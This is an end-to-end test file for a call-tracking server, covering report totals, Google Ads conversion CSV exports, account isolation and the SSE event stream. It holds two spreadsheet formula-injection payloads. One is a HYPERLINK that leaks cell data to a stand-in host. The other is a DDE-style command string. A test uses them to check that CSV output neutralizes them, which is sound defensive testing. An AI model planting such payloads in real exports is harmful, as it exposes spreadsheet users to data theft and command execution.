// SPDX-License-Identifier: AGPL-3.0-or-later
// Reports, Google Ads exports and the live stream, over calls made through the real server:
// a visit (UTM fields, click ids) → a signed Twilio voice webhook to the leased number → a signed
// status callback. Signatures are computed here with node:crypto exactly as INTERFACES.md §2.1
// (URL + params sorted byte-wise, name+value, HMAC-SHA1, base64). Expected values come from
// what the test sent (times from GET /v1/calls formatted independently, counts from the calls
// made), never from the server's own report output.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer, createAccount, cli, sql, freshDb } from '../helpers/server.mjs';

const TOKEN_A = 'reports-token-a-0123456789';
const TOKEN_B = 'reports-token-b-0123456789';
const UA = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1';
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
const HOSTILE_KW = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

let srv;
let B;            // the second account {accountId, apiKey}
let t0;           // before the first call: the report range starts here
const calls = {}; // name -> {sid, from, to, session, gclid…}
let sidSeq = 0;
let keepalive;    // a listener opened first, to see a keep-alive comment at the end

function sign(url, params, token) {
  const keys = Object.keys(params).sort((a, b) => (Buffer.compare(Buffer.from(a), Buffer.from(b))));
  let data = url;
  for (const k of keys) data += k + params[k];
  return createHmac('sha1', Buffer.from(token, 'utf8')).update(Buffer.from(data, 'utf8')).digest('base64');
}

async function webhook(path, params, token) {
  const url = srv.url + path;
  const res = await fetch(url, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Twilio-Signature': sign(url, params, token) },
    body: new URLSearchParams(params).toString(),
  });
  return { status: res.status, text: await res.text() };
}

function newSid() {
  sidSeq += 1;
  return 'CA' + 'e2e0' + String(sidSeq).padStart(28, '0');
}

/** A call from `from` to `to`: voice webhook, then the final status. */
async function call(to, from, status, duration, token = TOKEN_A) {
  const sid = newSid();
  const base = { AccountSid: 'AC' + '0'.repeat(32), CallSid: sid, From: from, To: to, Direction: 'inbound' };
  const v = await webhook('/v1/telephony/twilio/voice', { ...base, CallStatus: 'ringing' }, token);
  assert.equal(v.status, 200, v.text);
  assert.match(v.text, /<Dial/);
  const s = await webhook('/v1/telephony/twilio/status',
    { ...base, CallStatus: status, CallDuration: String(duration), SequenceNumber: '3' }, token);
  assert.ok(s.status === 200 || s.status === 204, `status callback: ${s.status} ${s.text}`);
  return sid;
}

async function visit(query, key = srv.accountId) {
  const r = await srv.api('POST', '/v1/visits',
    { account: key, url: `https://site.example/landing?${query}`, referrer: 'https://www.google.com/', targets: ['+15555550100'] },
    null, { 'User-Agent': UA });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.numbers[0].kind, 'pool', r.text);
  return r.json;
}

async function allCalls(key, since, until) {
  const out = [];
  let cursor = '';
  for (;;) {
    const q = `since=${encodeURIComponent(since)}&until=${encodeURIComponent(until)}&limit=2${cursor ? `&cursor=${cursor}` : ''}`;
    const r = await srv.api('GET', `/v1/calls?${q}`, undefined, key);
    assert.equal(r.status, 200, r.text);
    out.push(...r.json.calls);
    if (!r.json.next_cursor) return out;
    cursor = encodeURIComponent(r.json.next_cursor);
  }
}

/** An SSE listener: parsed events, comments, and a way to wait for one. */
function listen(key) {
  const ctl = new AbortController();
  const l = { events: [], comments: [], status: 0, ended: false, ctl };
  l.ready = (async () => {
    const res = await fetch(`${srv.url}/v1/stream`, { headers: { Authorization: `Bearer ${key}` }, signal: ctl.signal });
    l.status = res.status;
    l.contentType = res.headers.get('content-type');
    if (res.status !== 200) { l.ended = true; return; }
    l.reading = (async () => {
      const dec = new TextDecoder();
      let acc = '';
      try {
        for await (const chunk of res.body) {
          acc += dec.decode(chunk, { stream: true });
          let i;
          while ((i = acc.indexOf('\n\n')) >= 0) {
            const block = acc.slice(0, i);
            acc = acc.slice(i + 2);
            const ev = {};
            for (const line of block.split('\n')) {
              if (line.startsWith(':')) l.comments.push(line.slice(1).trim());
              else if (line.startsWith('event: ')) ev.event = line.slice(7);
              else if (line.startsWith('data: ')) ev.data = JSON.parse(line.slice(6));
              else if (line.startsWith('id: ')) ev.id = line.slice(4);
            }
            if (ev.event) l.events.push(ev);
          }
        }
      } catch { /* aborted */ }
      l.ended = true;
    })();
    // the greeting comment proves the stream is registered before any call is made
    await l.waitFor(() => l.comments.includes('connected'), 5000);
  })();
  l.waitFor = async (pred, ms = 5000) => {
    const end = Date.now() + ms;
    while (Date.now() < end) {
      if (pred()) return true;
      await sleep(10);
    }
    throw new Error('timed out waiting on the stream');
  };
  l.close = () => ctl.abort();
  return l;
}

before(async () => {
  const dir = mkdtempSync(join(tmpdir(), 'opendni-reports-'));
  const db = freshDb(dir);
  assert.equal(cli(['init', '--db', db]).status, 0);
  const A = createAccount(db, 'Plumber', ['http://127.0.0.1']);
  B = createAccount(db, 'Dentist', ['https://dentist.example']);
  assert.equal(cli(['account', 'set', A.accountId, '--twilio-auth-token', TOKEN_A, '--db', db]).status, 0);
  assert.equal(cli(['account', 'set', B.accountId, '--twilio-auth-token', TOKEN_B, '--db', db]).status, 0);
  // A counts calls of 30 s or more as conversions worth 150 (so min_duration is not the default)
  sql(db, `update accounts set settings = '{"conversion":{"min_duration":30,"value":150,"name":"Qualified call"}}' where ext_id = '${A.accountId}'`);
  // 100 stream listeners below stand for 100 clients but all connect from 127.0.0.1: no
  // per-address connection limit here (its own test is in hardening.test.mjs).
  srv = await startServer({ dir, db, account: A, args: ['--max-conns-per-addr', '0'] });
  const pool = (await srv.api('POST', '/v1/pools', { name: 'main', target: '+15555550100', forward_to: '+15555550100' })).json;
  for (let i = 1; i <= 5; i++) {
    assert.equal((await srv.api('POST', '/v1/numbers', { number: `+1555555011${i}`, pool: pool.id })).status, 201);
  }
  // a pool nobody visits: calls to its number are unattributed
  const spare = (await srv.api('POST', '/v1/pools', { name: 'spare', target: '+15555550200', forward_to: '+15555550200' })).json;
  assert.equal((await srv.api('POST', '/v1/numbers', { number: '+15555550201', pool: spare.id })).status, 201);
  const poolB = (await srv.api('POST', '/v1/pools', { name: 'b', target: '+15555550300', forward_to: '+15555550300' }, B.apiKey)).json;
  assert.equal((await srv.api('POST', '/v1/numbers', { number: '+15555550301', pool: poolB.id }, B.apiKey)).status, 201);
  keepalive = listen(srv.apiKey);
  await keepalive.ready;
  t0 = new Date(Date.now() - 2000).toISOString();

  // The calls every test below reasons about (account A unless said otherwise):
  //   hostile: gclid, hostile campaign and keyword, 95 s  -> answered, qualified, conversion
  //   ios:     gbraid only, campaign "spring", 45 s        -> answered, qualified, conversion
  //   short:   no click id, campaign "spring", 20 s        -> answered only (20 < 30)
  //   spare:   the unvisited pool's number, busy           -> unattributed, not answered
  const hv = await visit(`utm_source=google&utm_medium=cpc&utm_campaign=${encodeURIComponent(HOSTILE)}&utm_term=${encodeURIComponent(HOSTILE_KW)}&gclid=Cj0KCQiA-e2e_gclid_1`);
  calls.hostile = { to: hv.numbers[0].number, from: '+14155550101', gclid: 'Cj0KCQiA-e2e_gclid_1' };
  calls.hostile.sid = await call(calls.hostile.to, calls.hostile.from, 'completed', 95);
  const iv = await visit('utm_source=google&utm_medium=cpc&utm_campaign=spring&gbraid=GB_e2e-1');
  calls.ios = { to: iv.numbers[0].number, from: '+14155550102', gbraid: 'GB_e2e-1' };
  calls.ios.sid = await call(calls.ios.to, calls.ios.from, 'completed', 45);
  const sv = await visit('utm_source=google&utm_medium=cpc&utm_campaign=spring');
  calls.short = { to: sv.numbers[0].number, from: '+14155550103' };
  calls.short.sid = await call(calls.short.to, calls.short.from, 'completed', 20);
  calls.spare = { to: '+15555550201', from: '+14155550104' };
  calls.spare.sid = await call(calls.spare.to, calls.spare.from, 'busy', 0);
  calls.b = { to: '+15555550301', from: '+14155550999' };
  calls.b.sid = await call(calls.b.to, calls.b.from, 'completed', 100, TOKEN_B);
});

after(async () => {
  keepalive?.close();
  await srv?.cleanup();
});

const range = () => `since=${encodeURIComponent(t0)}&until=${encodeURIComponent(new Date(Date.now() + 60000).toISOString())}`;
const csvLines = (text) => text.split('\r\n').filter((l, i, a) => !(l === '' && i === a.length - 1));

/** yyyy-MM-dd HH:mm:ss of an RFC 3339 time shifted by offsetMin, computed without the server. */
function gadsTime(rfc3339, offsetMin = 0) {
  const d = new Date(Date.parse(rfc3339) + offsetMin * 60000);
  const p = (n) => String(n).padStart(2, '0');
  return `${d.getUTCFullYear()}-${p(d.getUTCMonth() + 1)}-${p(d.getUTCDate())} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())}`;
}

async function callByFrom(from, key = srv.apiKey) {
  const list = await allCalls(key, t0, new Date(Date.now() + 60000).toISOString());
  const c = list.find((x) => x.from === from);
  assert.ok(c, `call from ${from} is listed`);
  return c;
}

test('click-conversion CSV: exact header rows, the gclid row, time in the asked zone', async () => {
  const c = await callByFrom(calls.hostile.from);
  assert.ok(c.conversion, 'the 95 s call converted');
  const r = await srv.api('GET', `/v1/exports/google-ads/click-conversions.csv?${range()}`);
  assert.equal(r.status, 200, r.text);
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.match(r.headers.get('content-disposition'), /^attachment; filename="click-conversions\.csv"$/);
  const lines = csvLines(r.text);
  assert.equal(lines[0], 'Parameters:TimeZone=UTC');
  assert.equal(lines[1], 'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency');
  // only the gclid conversion: the gbraid one belongs to the GBRAID file, the others have no id
  assert.deepEqual(lines.slice(2), [`Cj0KCQiA-e2e_gclid_1,Qualified call,${gadsTime(c.conversion.at)},150.00,USD`]);
  assert.match(lines[2].split(',')[2], /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);

  const tz = await srv.api('GET', `/v1/exports/google-ads/click-conversions.csv?${range()}&tz=-0500&conversion_name=Phone%20lead`);
  const tl = csvLines(tz.text);
  assert.equal(tl[0], 'Parameters:TimeZone=-0500');
  assert.equal(tl[2], `Cj0KCQiA-e2e_gclid_1,Phone lead,${gadsTime(c.conversion.at, -300)},150.00,USD`);
  // an unescaped '+' in the query arrives as a space: still understood as an offset
  const plus = await srv.api('GET', `/v1/exports/google-ads/click-conversions.csv?${range()}&tz=+0530`);
  assert.equal(csvLines(plus.text)[0], 'Parameters:TimeZone=+0530');
  assert.equal(csvLines(plus.text)[2].split(',')[2], gadsTime(c.conversion.at, 330));
});

test('gbraid conversions go in their own file, once; the call-conversion CSV lists callers', async () => {
  const ios = await callByFrom(calls.ios.from);
  const g = await srv.api('GET', `/v1/exports/google-ads/click-conversions.csv?${range()}&id=gbraid`);
  assert.equal(g.status, 200, g.text);
  assert.match(g.headers.get('content-disposition'), /click-conversions-gbraid\.csv/);
  assert.deepEqual(csvLines(g.text), ['Parameters:TimeZone=UTC',
    'GBRAID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency',
    `GB_e2e-1,Qualified call,${gadsTime(ios.conversion.at)},150.00,USD`]);
  const w = await srv.api('GET', `/v1/exports/google-ads/click-conversions.csv?${range()}&id=wbraid`);
  assert.equal(csvLines(w.text).length, 2, 'no wbraid conversion: header rows only');

  const hostile = await callByFrom(calls.hostile.from);
  const cc = await srv.api('GET', `/v1/exports/google-ads/call-conversions.csv?${range()}`);
  assert.equal(cc.status, 200, cc.text);
  const lines = csvLines(cc.text);
  assert.equal(lines[0], 'Parameters:TimeZone=UTC');
  assert.equal(lines[1], "Caller's Phone Number,Call Start Time,Conversion Name,Conversion Time,Conversion Value,Conversion Currency");
  assert.deepEqual(lines.slice(2).sort(), [
    `${calls.hostile.from},${gadsTime(hostile.started_at)},Qualified call,${gadsTime(hostile.conversion.at)},150.00,USD`,
    `${calls.ios.from},${gadsTime(ios.started_at)},Qualified call,${gadsTime(ios.conversion.at)},150.00,USD`,
  ].sort());
});

test('hostile campaign and keyword values are neutralized in CSV', async () => {
  const r = await srv.api('GET', `/v1/reports/calls?group_by=campaign,keyword&format=csv&${range()}`);
  assert.equal(r.status, 200, r.text);
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  const lines = csvLines(r.text);
  assert.equal(lines[0], 'campaign,keyword,calls,answered,qualified,conversions,value,avg_duration,'
    + 'revenue,avg_score,number_cost,cost,cost_per_call,cost_per_qualified,cost_per_conversion,roas');
  // RFC 4180: the quote-prefixed value is quoted (it holds quotes and commas), quotes doubled
  const campaign = `"'${HOSTILE.replaceAll('"', '""')}"`;
  const row = lines.find((l) => l.startsWith(campaign));
  assert.ok(row, `a row starts with the neutralized campaign: ${r.text}`);
  // then revenue 0, the score (answered, >= 60 s, a first-time caller: 75), no number cost, and
  // cost 0 (no spend imported) with its per-call figures; ROAS is empty without cost
  assert.equal(row, `${campaign},'${HOSTILE_KW},1,1,1,1,150.00,95,0,75.00,0,0,0,0,0,`);
  for (const l of lines) {
    for (const cell of l.split(',')) assert.ok(!/^[=+\-@]/.test(cell), `no cell starts a formula: ${cell}`);
  }
  // a hostile conversion name given to the export is neutralized too
  const x = await srv.api('GET', `/v1/exports/google-ads/click-conversions.csv?${range()}&conversion_name=${encodeURIComponent('=1+2')}`);
  assert.equal(csvLines(x.text)[2].split(',')[1], "'=1+2");
});

// The counters this file checks (the money figures are checked in e2e/money).
const BASE = ['calls', 'answered', 'qualified', 'conversions', 'value', 'avg_duration'];
const base = (row) => Object.fromEntries(BASE.filter((k) => k in row).map((k) => [k, row[k]]));

test('report rows add up to the calls list, with the API counters', async () => {
  const until = new Date(Date.now() + 60000).toISOString();
  const listed = await allCalls(srv.apiKey, t0, until);
  assert.equal(listed.length, 4, 'account A made four calls');
  for (const groupBy of ['channel,source,medium,campaign,keyword,landing_page,device,location', 'campaign', '']) {
    const r = await srv.api('GET', `/v1/reports/calls?group_by=${groupBy}&since=${encodeURIComponent(t0)}&until=${encodeURIComponent(until)}`);
    assert.equal(r.status, 200, r.text);
    const sum = r.json.rows.reduce((n, row) => n + row.calls, 0);
    assert.equal(sum, listed.length, `group_by=${groupBy}`);
    assert.equal(r.json.totals.calls, listed.length);
  }
  const r = await srv.api('GET', `/v1/reports/calls?group_by=campaign,device&${range()}`);
  const byCampaign = Object.fromEntries(r.json.rows.map((row) => [row.key.campaign, row]));
  assert.deepEqual(Object.keys(byCampaign.spring.key), ['campaign', 'device']);
  assert.equal(byCampaign.spring.key.device, 'mobile');
  // spring: 45 s (qualified, converted) and 20 s (answered only); mean talk time 32.5 -> 33
  assert.deepEqual(base(byCampaign.spring),
    { calls: 2, answered: 2, qualified: 1, conversions: 1, value: 150, avg_duration: 33 });
  assert.deepEqual(base(byCampaign[HOSTILE]),
    { calls: 1, answered: 1, qualified: 1, conversions: 1, value: 150, avg_duration: 95 });
  assert.equal(byCampaign.spring.cost, null, 'device is not a dimension spend has: no cost');
  // the unattributed busy call: null keys, nothing answered
  const none = r.json.rows.find((row) => row.key.campaign === null);
  assert.deepEqual(none.key, { campaign: null, device: null });
  assert.deepEqual(base(none), { calls: 1, answered: 0, qualified: 0, conversions: 0, value: 0, avg_duration: 0 });
  assert.deepEqual(base(r.json.totals), { calls: 4, answered: 3, qualified: 2, conversions: 2, value: 300, avg_duration: 53 });
  const all = await srv.api('GET', `/v1/reports/calls?group_by=location&${range()}`);
  assert.deepEqual(all.json.rows.map((row) => row.key), [{ location: null }]);
});

test('reports and exports are account-scoped and validate their input', async () => {
  const b = await srv.api('GET', `/v1/reports/calls?group_by=campaign&${range()}`, undefined, B.apiKey);
  assert.equal(b.status, 200);
  assert.equal(b.json.totals.calls, 1);
  const bx = await srv.api('GET', `/v1/exports/google-ads/click-conversions.csv?${range()}`, undefined, B.apiKey);
  assert.ok(!bx.text.includes('e2e_gclid'), 'B never sees A\'s click ids');
  assert.equal(csvLines(bx.text).length, 2);
  const bad = [
    ['/v1/reports/calls?group_by=channel,colour', 'group_by'],
    ['/v1/reports/calls?since=yesterday', 'since'],
    ['/v1/reports/calls?since=2026-02-01&until=2026-01-01', 'since'],
    ['/v1/reports/calls?format=xml', 'format'],
    ['/v1/exports/google-ads/click-conversions.csv?tz=Nowhere/Atlantis', 'tz'],
    ['/v1/exports/google-ads/click-conversions.csv?id=msclkid', 'id'],
    ['/v1/exports/google-ads/call-conversions.csv?until=soon', 'until'],
  ];
  for (const [path, field] of bad) {
    const r = await srv.api('GET', path);
    assert.equal(r.status, 400, path);
    assert.equal(r.json.error.code, 'invalid');
    assert.equal(r.json.error.field, field, path);
  }
  assert.equal((await srv.api('GET', '/v1/reports/calls', undefined, null)).status, 401);
  assert.equal((await srv.api('GET', '/v1/exports/google-ads/call-conversions.csv', undefined, 'odk_nope')).status, 401);
  assert.equal((await srv.api('GET', '/v1/stream', undefined, null)).status, 401);
});

test('SSE: a listener of account A gets A\'s call.started and nothing of B\'s', async () => {
  const la = listen(srv.apiKey);
  const lb = listen(B.apiKey);
  await Promise.all([la.ready, lb.ready]);
  assert.equal(la.status, 200);
  assert.match(la.contentType, /^text\/event-stream/);
  // B's call first: if it leaked to A it would arrive before A's own event
  await call('+15555550301', '+14155550998', 'completed', 12, TOKEN_B);
  const v = await visit('utm_source=newsletter&utm_medium=email&utm_campaign=sse');
  await call(v.numbers[0].number, '+14155550201', 'completed', 40);
  await la.waitFor(() => la.events.some((e) => e.event === 'conversion.created'));
  const started = la.events.find((e) => e.event === 'call.started');
  assert.ok(started, 'call.started received');
  assert.equal(started.data.from, '+14155550201');
  assert.equal(started.data.attribution.source.campaign, 'sse');
  assert.ok(la.events.some((e) => e.event === 'call.completed' && e.data.duration === 40));
  for (const e of la.events) assert.notEqual(e.data?.from, '+14155550998', `leaked: ${JSON.stringify(e)}`);
  assert.ok(!JSON.stringify(la.events).includes('+15555550301'));
  await lb.waitFor(() => lb.events.some((e) => e.event === 'call.completed'));
  assert.ok(lb.events.every((e) => !JSON.stringify(e.data).includes('+14155550201')));
  la.close();
  lb.close();
});

test('100 listeners stay connected while webhooks keep answering fast', async () => {
  const listeners = Array.from({ length: 100 }, () => listen(srv.apiKey));
  await Promise.all(listeners.map((l) => l.ready));
  assert.ok(listeners.every((l) => l.status === 200));
  const froms = [];
  const times = [];
  for (let i = 0; i < 20; i++) {
    const from = `+1415555${String(3000 + i)}`;
    froms.push(from);
    const t = Date.now();
    const sid = newSid();
    const r = await webhook('/v1/telephony/twilio/voice',
      { AccountSid: 'AC' + '0'.repeat(32), CallSid: sid, CallStatus: 'ringing', From: from, To: '+15555550201', Direction: 'inbound' }, TOKEN_A);
    times.push(Date.now() - t);
    assert.equal(r.status, 200);
  }
  times.sort((a, b) => a - b);
  assert.ok(times[times.length - 1] < 1000, `slowest webhook ${times[times.length - 1]} ms`);
  for (const l of listeners) {
    await l.waitFor(() => froms.every((f) => l.events.some((e) => e.event === 'call.started' && e.data.from === f)), 10000);
  }
  for (const l of listeners) l.close();
});

test('the stream sends keep-alive comments', async () => {
  // opened in before(): wait until a keep-alive is due (15 s) if the other tests were quicker
  await keepalive.waitFor(() => keepalive.comments.includes('keep-alive'), 20000);
});

test('stopping the server ends open streams and exits cleanly', async () => {
  const ls = Array.from({ length: 5 }, () => listen(srv.apiKey));
  await Promise.all(ls.map((l) => l.ready));
  const t = Date.now();
  srv.proc.kill('SIGTERM');
  const { code } = await srv.waitExit(5000);
  assert.equal(code, 0);
  assert.ok(Date.now() - t < 3000, 'stopped within the grace period');
  for (const l of ls) await l.waitFor(() => l.ended, 3000);
});
